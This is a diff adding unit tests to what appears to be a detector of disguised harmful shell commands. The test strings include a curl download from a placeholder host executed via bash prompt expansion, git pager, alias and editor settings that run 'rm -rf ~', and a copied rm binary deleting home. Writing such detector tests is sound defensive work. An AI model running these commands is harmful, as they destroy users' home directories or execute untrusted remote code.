@@ -124,6 +124,19 @@ TEST(Disguise, second_evaluation) {
   });
 }
 
+TEST(Disguise, text_that_is_expanded_unseen) {
+  EXPECT_TRUE(has_effect("x=$(curl -s https://x.example); echo ${x@P}", EffectKind::execute, "", Action::downloaded));
+  EXPECT_TRUE(has_effect("echo ${X@P}", EffectKind::execute, "", Action::unknown));
+  EXPECT_FALSE(has_effect("echo ${X@Q} $((X))", EffectKind::execute, "", Action::unknown));
+}
+
+TEST(Disguise, settings_of_git) {
+  expect_home_is_deleted({"git config core.pager 'rm -rf ~'", "git config --global alias.x '!rm -rf ~'",
+                          "git -c core.editor='rm -rf ~' commit"});
+  expect_home_stays(
+      {"git config user.name 'rm -rf ~'", "git config --unset core.pager 'rm -rf ~'", "git config alias.x 'rm -rf ~'"});
+}
+
 TEST(Disguise, links_copies_and_moves) {
   expect_home_is_deleted({
       "cp /bin/rm x; ./x -rf ~",
